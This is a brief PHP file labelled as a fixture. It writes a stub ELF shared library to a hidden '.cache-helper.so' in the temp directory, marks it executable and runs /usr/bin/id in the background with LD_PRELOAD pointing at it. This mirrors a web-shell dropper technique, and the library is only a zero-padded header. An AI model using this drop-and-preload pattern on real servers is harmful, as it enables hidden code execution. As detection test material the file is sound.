<?php
// fixture: native helper dropped from an escaped ELF string, preloaded into a system binary
$lib = "\x7f\x45\x4c\x46\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00\x3e\x00\x01\x00\x00\x00";
$lib .= str_repeat("\x00", 64);
$path = sys_get_temp_dir() . "/.cache-helper.so";
file_put_contents($path, $lib);
@chmod($path, 0755);
@exec("LD_PRELOAD=" . $path . " /usr/bin/id > /dev/null 2>&1 &");
echo "done";
